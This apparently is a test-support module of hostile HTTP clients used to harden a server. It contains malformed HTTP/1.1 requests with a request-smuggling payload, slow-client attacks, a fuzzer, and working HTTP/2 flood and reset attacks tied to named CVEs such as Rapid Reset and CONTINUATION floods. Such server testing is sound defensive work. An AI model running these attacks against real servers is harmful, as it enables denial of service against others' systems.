"""Clients that mean no good: raw bytes of HTTP/1.1, HTTP/2 by frames, slow ones, floods.

Each of `ATTACKS` is run as `await attack(target)` and ends by itself when the server has had enough
of it, or when it has done what it can. None looks at what it gets: the tests and the soak do.
"""

from __future__ import annotations

import random as standard_random  # noqa: TID251  (what a fuzzer draws must repeat by its seed)
import struct
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from typing import NamedTuple

import h2.connection
import h2.events
import trio
from h2.config import H2Configuration
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes, Settings

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING = range(7)
GOAWAY, WINDOW_UPDATE, CONTINUATION = 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8

GONE = (trio.BrokenResourceError, trio.ClosedResourceError)


class Target(NamedTuple):
    address: str
    port: int
    path: str = "/"


Attack = Callable[[Target], Awaitable[object]]


@asynccontextmanager
async def connected(target: Target) -> AsyncIterator[trio.SocketStream]:
    """Its end is a reset, as of a client that crashes."""
    stream = await trio.open_tcp_stream(target.address, target.port)
    try:
        yield stream
    finally:
        with suppress(OSError):
            linger_no_time = struct.pack("ii", 1, 0)
            stream.setsockopt(trio.socket.SOL_SOCKET, trio.socket.SO_LINGER, linger_no_time)
        await trio.aclose_forcefully(stream)


async def read_to_end(stream: trio.abc.ReceiveStream) -> bytes:
    """All that comes until the server ends or resets the connection."""
    read = bytearray()
    with suppress(*GONE):
        while part := await stream.receive_some():
            read += part
    return bytes(read)


async def say(target: Target, said: bytes) -> bytes:
    """What the server answers until it has closed the connection."""
    async with connected(target) as stream:
        with suppress(*GONE):
            await stream.send_all(said)
        return await read_to_end(stream)


# -- HTTP/1.1 ------------------------------------------------------------------------------------


def request(*lines: bytes, body: bytes = b"", method: bytes = b"GET", path: bytes = b"/") -> bytes:
    """With a Host, and a Connection that ends."""
    head = [method + b" " + path + b" HTTP/1.1", b"Host: a", b"Connection: close", *lines]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


class Raw(NamedTuple):
    said: bytes
    statuses: tuple[int, ...]
    """What may be answered; 0: nothing at all."""


RAW = {
    "random bytes": Raw(standard_random.Random(1).randbytes(5_000), (0, 400)),
    "zero bytes": Raw(bytes(1_000), (0, 400)),
    "only line ends": Raw(b"\r\n" * 1_000, (0, 400)),
    "a hello of TLS": Raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), (0, 400)),
    "HTTP/0.9": Raw(b"GET /\r\n\r\n", (400,)),
    "HTTP/9.9": Raw(request().replace(b"1.1", b"9.9", 1), (200, 400, 505)),
    "no path": Raw(b"GET HTTP/1.1\r\nHost: a\r\n\r\n", (400,)),
    "an empty path": Raw(b"GET  HTTP/1.1\r\nHost: a\r\n\r\n", (400,)),
    "a path that is not ASCII": Raw(request(path=b"/\xff\xfe"), (400,)),
    "a path of broken escapes": Raw(request(path=b"/%ff%fe%0d%0a%zz%"), (200,)),
    "a path that is an URL": Raw(request(path=b"http://b/c"), (200,)),
    "CONNECT": Raw(request(method=b"CONNECT", path=b"a:443"), (501,)),
    "a method that is not ASCII": Raw(request(method=b"G\xcbT"), (400,)),
    "a zero byte in a header": Raw(request(b"A: b\x00c"), (400,)),
    "a header's name that is not ASCII": Raw(request(b"\xff: b"), (400,)),
    "a header's value that is not ASCII": Raw(request(b"A: \xff\xfe"), (200, 400)),
    "a header without colon": Raw(request(b"abc"), (400,)),
    "a header with a space": Raw(request(b"A : b"), (400,)),
    "a folded header": Raw(request(b"A: b\r\n  c"), (200, 400)),
    "no host": Raw(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n", (400,)),
    "two hosts": Raw(request(b"Host: b"), (400,)),
    "a thousand headers": Raw(request(*(b"A%d: b" % n for n in range(1_000))), (200, 431)),
    "too many headers": Raw(request(*(b"A%d: b" % n for n in range(10_000))), (431,)),
    "a header without end": Raw(b"GET / HTTP/1.1\r\nA: " + b"a" * 100_000, (431,)),
    "a path without end": Raw(b"GET /" + b"a" * 100_000, (431,)),
    "an absurd length": Raw(request(b"Content-Length: 9" + b"9" * 18, method=b"POST"), (413,)),
    "an endless length": Raw(request(b"Content-Length: " + b"9" * 5_000, method=b"POST"), (400,)),
    "a negative length": Raw(request(b"Content-Length: -1", method=b"POST"), (400,)),
    "two lengths": Raw(
        request(b"Content-Length: 1", b"Content-Length: 2", method=b"POST", body=b"ab"), (400,)
    ),
    "a length and chunks": Raw(
        request(
            b"Content-Length: 4",
            b"Transfer-Encoding: chunked",
            method=b"POST",
            body=b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
        ),
        (400,),
    ),
    "chunks of another kind": Raw(
        request(b"Transfer-Encoding: gzip, chunked", method=b"POST"), (400, 501)
    ),
    "a chunk of no size": Raw(
        request(b"Transfer-Encoding: chunked", method=b"POST", body=b"xyz\r\n"), (400,)
    ),
    "a chunk of absurd size": Raw(
        request(b"Transfer-Encoding: chunked", method=b"POST", body=b"f" * 19 + b"\r\na"),
        (0, 400, 408, 413),
    ),
    "chunk extensions without end": Raw(
        request(b"Transfer-Encoding: chunked", method=b"POST", body=b"1;" + b"a" * 100_000), (431,)
    ),
    "a compressed body": Raw(
        request(b"Content-Encoding: gzip", b"Content-Length: 2", method=b"POST", body=b"ab"),
        (415,),
    ),
    "an upgrade to h2c": Raw(
        request(b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"), (200,)
    ),
    "an upgrade to h2c with nonsense": Raw(
        request(b"Upgrade: h2c", b"HTTP2-Settings: \xff\xff!!"), (200,)
    ),
    "an upgrade to h2c with a body": Raw(
        request(b"Upgrade: h2c", b"Content-Length: 2", method=b"POST", body=b"ab"), (200,)
    ),
    "an upgrade to a WebSocket": Raw(
        b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade, close\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
        (200,),
    ),
    "a wish to be told to go on": Raw(
        request(b"Expect: 100-continue", b"Content-Length: 2", method=b"POST", body=b"ab"), (100,)
    ),
    "HTTP/2's first line and then none of it": Raw(PREFACE[:18] + b"GET / HTTP/1.1\r\n", (0,)),
    "HTTP/2 that is noise": Raw(PREFACE + standard_random.Random(2).randbytes(5_000), (0,)),
    "garbage behind the last request": Raw(request() + b"\xff" * 1_000, (0, 200, 400)),
    "many requests in a row": Raw(
        request().replace(b"Connection: close\r\n", b"") * 200 + request(), (200,)
    ),
}


async def every_raw(target: Target) -> None:
    for raw in RAW.values():
        await say(target, raw.said)


async def breaks_off_everywhere(target: Target) -> None:
    whole = request(b"Content-Length: 10", method=b"POST", body=b"0123456789")
    for end in range(0, len(whole), 7):
        async with connected(target) as stream:
            await stream.send_all(whole[:end])


async def drips_headers(target: Target) -> None:
    async with connected(target) as stream:
        await stream.send_all(b"GET / HTTP/1.1\r\nHost: a\r\n")
        await drip(stream, b"A: b\r\n")


async def drips_a_body(target: Target) -> None:
    async with connected(target) as stream:
        await stream.send_all(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
        await drip(stream, b"a")


async def drip(stream: trio.SocketStream, drop: bytes) -> None:
    """Until the server ends the connection."""
    with suppress(*GONE):
        while True:
            await stream.send_all(drop)
            with trio.move_on_after(0.05):
                if not await read_to_end(stream):
                    return


async def says_nothing(target: Target) -> None:
    async with connected(target) as stream:
        await read_to_end(stream)


async def reads_nothing(target: Target) -> None:
    """Asks for answers till no more requests fit into the wire, and waits to be thrown out."""
    asking = request(path=target.path.encode()).replace(b"Connection: close\r\n", b"")
    async with connected(target) as stream:
        with suppress(*GONE):
            while True:
                await stream.send_all(asking * 100)


async def sends_without_end(target: Target) -> None:
    """A body in chunks, of no declared length."""
    async with connected(target) as stream:
        with suppress(*GONE):
            await stream.send_all(
                b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            for _ in range(1_000):
                await stream.send_all(b"10000\r\n" + b"x" * 0x10000 + b"\r\n")
        await read_to_end(stream)


async def connects_and_goes(target: Target) -> None:
    for _ in range(100):
        async with connected(target):
            pass


# -- HTTP/2 --------------------------------------------------------------------------------------


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream_id: int = 0) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload
    )


class Http2:
    """A client's side of a connection, which checks nothing of what it is told to say."""

    def __init__(self, stream: trio.abc.Stream) -> None:
        self.stream = stream
        self.connection = h2.connection.H2Connection(
            H2Configuration(
                client_side=True,
                header_encoding=None,
                validate_outbound_headers=False,
                normalize_outbound_headers=False,
            )
        )
        self.data: dict[int, bytearray] = {}
        self.statuses: dict[int, int] = {}
        self.headers: dict[int, dict[bytes, bytes]] = {}
        self.trailers: dict[int, list[tuple[bytes, bytes]]] = {}
        self.over: dict[int, h2.events.Event] = {}
        self.went_away: int | None = None
        self.takes_data = True
        self._send_lock = trio.Lock()

    async def begin(self, settings: dict[SettingCodes, int] | None = None) -> None:
        self.connection.local_settings = Settings(
            client=True, initial_values={SettingCodes.ENABLE_PUSH: 0, **(settings or {})}
        )
        self.connection.initiate_connection()
        await self.flush()

    def open(
        self,
        path: bytes,
        *,
        method: bytes = b"GET",
        ends: bool = True,
        more: tuple[tuple[bytes, bytes], ...] = (),
        has_priority: bool = False,
    ) -> int:
        stream_id = self.connection.get_next_available_stream_id()
        headers = [(b":method", method), (b":authority", b"a"), *more]
        if method != b"CONNECT":
            headers[1:1] = [(b":scheme", b"http"), (b":path", path)]
        weight = 7 if has_priority else None
        self.connection.send_headers(stream_id, headers, end_stream=ends, priority_weight=weight)
        return stream_id

    async def flush(self) -> None:
        await self.send_raw()

    async def send_raw(self, *frames: bytes) -> None:
        async with self._send_lock:
            if data := self.connection.data_to_send() + b"".join(frames):
                await self.stream.send_all(data)

    async def take(self) -> bool:
        """What comes next; False if it was the end."""
        try:
            data = await self.stream.receive_some()
            events = self.connection.receive_data(bytes(data)) if data else []
        except (ProtocolError, *GONE):
            return False
        for event in events:
            self._note(event)
        with suppress(*GONE):
            await self.flush()
        return bool(data)

    def _note(self, event: h2.events.Event) -> None:
        match event:
            case h2.events.ResponseReceived(stream_id=stream_id, headers=headers):
                self.headers[stream_id] = {bytes(name): bytes(value) for name, value in headers}
                self.statuses[stream_id] = int(self.headers[stream_id][b":status"])
            case h2.events.DataReceived(stream_id=stream_id, data=data):
                self.data.setdefault(stream_id, bytearray()).extend(data)
                if self.takes_data and event.flow_controlled_length:
                    self.connection.acknowledge_received_data(
                        event.flow_controlled_length, stream_id
                    )
            case h2.events.TrailersReceived(stream_id=stream_id, headers=headers):
                self.trailers[stream_id] = [(bytes(name), bytes(value)) for name, value in headers]
            case h2.events.StreamEnded(stream_id=stream_id):
                self.over.setdefault(stream_id, event)
            case h2.events.StreamReset(stream_id=stream_id):
                self.over[stream_id] = event
            case h2.events.ConnectionTerminated(error_code=code):
                self.went_away = int(code or 0)
            case _:
                pass

    async def answer(self, stream_id: int) -> tuple[int | None, bytes]:
        """Of this stream, whole, or as much as came of it."""
        while stream_id not in self.over and await self.take():
            pass
        return self.statuses.get(stream_id), bytes(self.data.get(stream_id, b""))

    async def to_the_end(self) -> int | None:
        """Until the server ends the connection; the code that it gave."""
        while await self.take():
            pass
        return self.went_away


@asynccontextmanager
async def speaking_h2(
    target: Target, settings: dict[SettingCodes, int] | None = None
) -> AsyncIterator[Http2]:
    async with connected(target) as stream:
        client = Http2(stream)
        await client.begin(settings)
        yield client


async def flood(client: Http2, frames: bytes, times: int = 10_000) -> int | None:
    """These frames over and over until the server ends the connection; the code that it gave."""
    async with trio.open_nursery() as nursery:

        async def listen() -> None:
            await client.to_the_end()
            nursery.cancel_scope.cancel()

        nursery.start_soon(listen)
        with suppress(*GONE):
            await client.flush()
            for _ in range(times // 100):
                await client.send_raw(frames * 100)
    return client.went_away


async def again_and_again(target: Target, once: Callable[[Http2], Awaitable[None]]) -> int | None:
    """Until the server has had enough; the code that it gave."""
    async with speaking_h2(target) as client, trio.open_nursery() as nursery:
        nursery.start_soon(client.to_the_end)
        with suppress(*GONE, ProtocolError):
            for _ in range(2_000):
                await once(client)
    return client.went_away


async def resets_rapidly(target: Target) -> int | None:
    """CVE-2023-44487."""

    async def once(client: Http2) -> None:
        stream_id = client.open(target.path.encode(), ends=False)
        client.connection.reset_stream(stream_id)
        await client.flush()

    return await again_and_again(target, once)


async def makes_the_server_reset(target: Target) -> int | None:
    """CVE-2025-8671: a window that overflows is an error of the stream, and the server's reset."""
    overflowing = struct.pack(">I", 2**31 - 1)

    async def once(client: Http2) -> None:
        stream_id = client.open(target.path.encode(), ends=False)
        await client.send_raw(frame(WINDOW_UPDATE, overflowing, stream_id=stream_id))

    return await again_and_again(target, once)


async def asks_in_bad_words(target: Target) -> int | None:
    """Requests that are refused at once, so that no app ever runs."""

    async def once(client: Http2) -> None:
        client.open(b"/\xff")
        await client.flush()

    return await again_and_again(target, once)


async def shifts_all_windows(target: Target) -> int | None:
    """One setting has every stream looked at anew."""
    async with speaking_h2(target, {SettingCodes.INITIAL_WINDOW_SIZE: 0}) as client:
        client.takes_data = False
        for _ in range(90):
            client.open(target.path.encode())
        await client.flush()
        sizes = b"".join(
            frame(SETTINGS, struct.pack(">HI", SettingCodes.INITIAL_WINDOW_SIZE, size))
            for size in (1, 0)
        )
        return await flood(client, sizes, times=2_000)


async def floods_pings(target: Target) -> int | None:
    """CVE-2019-9512."""
    async with speaking_h2(target) as client:
        return await flood(client, frame(PING, bytes(8)))


async def floods_settings(target: Target) -> int | None:
    """CVE-2019-9515."""
    async with speaking_h2(target) as client:
        return await flood(client, frame(SETTINGS, struct.pack(">HI", 4, 70_000)))


async def floods_priorities(target: Target) -> int | None:
    """CVE-2019-9513, each for a stream of its own that is never opened."""
    async with speaking_h2(target) as client:
        await client.flush()
        frames = b"".join(
            frame(PRIORITY, struct.pack(">IB", 0, 7), stream_id=2 * n + 1) for n in range(5_000)
        )
        return await flood(client, frames, times=100)


async def floods_windows(target: Target) -> int | None:
    async with speaking_h2(target) as client:
        return await flood(client, frame(WINDOW_UPDATE, struct.pack(">I", 1)))


async def floods_empty_data(target: Target) -> int | None:
    """CVE-2019-9518."""
    async with speaking_h2(target) as client:
        stream_id = client.open(target.path.encode(), method=b"POST", ends=False)
        await client.flush()
        return await flood(client, frame(DATA, stream_id=stream_id))


async def floods_unknown_frames(target: Target) -> int | None:
    async with speaking_h2(target) as client:
        return await flood(client, frame(0xBA, b"hello"))


async def continues_without_end(target: Target) -> int | None:
    """CVE-2024-27316 and its like."""
    async with speaking_h2(target) as client:
        await client.send_raw(frame(HEADERS, b"", stream_id=1))
        return await flood(client, frame(CONTINUATION, b"\x00\x01a\x01b" * 100, stream_id=1))


async def bombs_by_hpack(target: Target) -> int | None:
    """CVE-2016-6581: one header in the table, and a byte for each time it is named."""
    async with speaking_h2(target) as client:
        client.open(target.path.encode(), more=((b"a", b"b" * 3_900),))
        await client.flush()
        named = b"\xbe" * 10_000  # the newest entry of the table
        await client.send_raw(
            frame(HEADERS, b"\x82\x84\x86\x41\x01a" + named, END_HEADERS | END_STREAM, 3)
        )
        return await client.to_the_end()


async def opens_too_many_streams(target: Target) -> int | None:
    """And keeps all of them open."""
    async with speaking_h2(target) as client, trio.open_nursery() as nursery:
        nursery.start_soon(client.to_the_end)
        with suppress(*GONE, ProtocolError):
            for _ in range(3_000):
                client.connection.remote_settings.max_concurrent_streams = 10**6
                client.connection.remote_settings.acknowledge()
                client.open(target.path.encode(), method=b"POST", ends=False)
                await client.flush()
    return client.went_away


async def announces_a_huge_frame(target: Target) -> int | None:
    """Of 16 MiB, of which nothing is ever sent."""
    async with speaking_h2(target) as client:
        await client.send_raw(b"\xff\xff\xff" + frame(DATA, stream_id=1)[3:])
        await client.to_the_end()
    return client.went_away


async def sends_data_to_nobody(target: Target) -> int | None:
    """To streams that were never opened, and to stream 0."""
    for stream_id in (0, 7):
        async with speaking_h2(target) as client:
            await client.send_raw(frame(DATA, b"hello", stream_id=stream_id))
            await client.to_the_end()
    return client.went_away


async def opens_no_window(target: Target) -> None:
    """Asks for an answer and takes nothing of it; waits to be thrown out."""
    async with speaking_h2(target, {SettingCodes.INITIAL_WINDOW_SIZE: 0}) as client:
        stream_id = client.open(target.path.encode())
        await client.flush()
        await client.answer(stream_id)


async def dribbles_window(target: Target) -> int | None:
    """CVE-2019-9511: takes an answer byte by byte."""
    async with speaking_h2(target, {SettingCodes.INITIAL_WINDOW_SIZE: 1}) as client:
        stream_id = client.open(target.path.encode())
        async with trio.open_nursery() as nursery:
            nursery.start_soon(client.to_the_end)
            with suppress(*GONE, ProtocolError):
                for _ in range(10_000):
                    client.connection.increment_flow_control_window(1, stream_id)
                    await client.flush()
    return client.went_away


async def breaks_off_streams(target: Target) -> None:
    """Ends the connection in the midst of requests and answers."""
    for _ in range(20):
        async with speaking_h2(target) as client:
            client.open(target.path.encode(), method=b"POST", ends=False)
            client.open(target.path.encode())
            await client.flush()


# -- fuzz ----------------------------------------------------------------------------------------


def http2_seed(path: bytes) -> bytes:
    """A well-formed conversation: requests with and without a body, a ping, a reset."""
    connection = h2.connection.H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", "a")]
    connection.send_headers(1, [*headers, (":path", path.decode()), ("content-length", "5")])
    connection.send_data(1, b"hello", end_stream=True)
    connection.ping(bytes(8))
    connection.send_headers(3, [*headers, (":path", path.decode())])
    connection.send_data(3, b"x" * 300, pad_length=20)
    connection.reset_stream(3)
    connection.prioritize(5, weight=7, depends_on=1)
    connection.send_headers(5, [*headers, (":path", path.decode())], end_stream=True)
    connection.increment_flow_control_window(1_000)
    return connection.data_to_send()


def http1_seed(path: bytes) -> bytes:
    return (
        request(b"Content-Length: 5", method=b"POST", path=path, body=b"hello").replace(
            b"Connection: close\r\n", b""
        )
        + request(
            b"Transfer-Encoding: chunked",
            b"Expect: 100-continue",
            method=b"POST",
            path=path,
            body=b"5;a=b\r\nhello\r\n0\r\nTrailer: yes\r\n\r\n",
        ).replace(b"Connection: close\r\n", b"")
        + request(b"Upgrade: h2c", b"Accept: */*", path=path)
    )


def mutations(seed: int, whole: bytes, count: int, keep: int = 0) -> list[bytes]:
    """`count` variants of `whole`, whose first `keep` bytes stay as they are."""
    random = standard_random.Random(seed)
    return [whole[:keep] + mutated(random, whole[keep:]) for _ in range(count)]


def mutated(random: standard_random.Random, whole: bytes) -> bytes:
    changed = bytearray(whole)
    for _ in range(random.choice((1, 1, 2, 5, 20))):
        at = random.randrange(len(changed) + 1)
        length = random.choice((1, 1, 2, 9, 30))
        match random.randrange(5):
            case 0:
                changed[at : at + length] = random.randbytes(length)
            case 1:
                del changed[at : at + length]
            case 2:
                changed[at:at] = random.randbytes(length)
            case 3:
                changed[at:at] = changed[at : at + length] * random.randrange(1, 20)
            case _:
                if at < len(changed):
                    changed[at] ^= 1 << random.randrange(8)
    return bytes(changed)


async def fuzz(target: Target, said: list[bytes]) -> None:
    """Each on a connection of its own, some at once, which is ended from here after a moment."""
    limit = trio.CapacityLimiter(10)

    async def one(each: bytes) -> None:
        async with limit:
            with trio.move_on_after(0.2):
                await say(target, each)

    async with trio.open_nursery() as nursery:
        for each in said:
            nursery.start_soon(one, each)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        every_raw,
        breaks_off_everywhere,
        drips_headers,
        drips_a_body,
        says_nothing,
        reads_nothing,
        sends_without_end,
        connects_and_goes,
        resets_rapidly,
        makes_the_server_reset,
        asks_in_bad_words,
        shifts_all_windows,
        floods_pings,
        floods_settings,
        floods_priorities,
        floods_windows,
        floods_empty_data,
        floods_unknown_frames,
        continues_without_end,
        bombs_by_hpack,
        opens_too_many_streams,
        sends_data_to_nobody,
        announces_a_huge_frame,
        opens_no_window,
        dribbles_window,
        breaks_off_streams,
    )
}
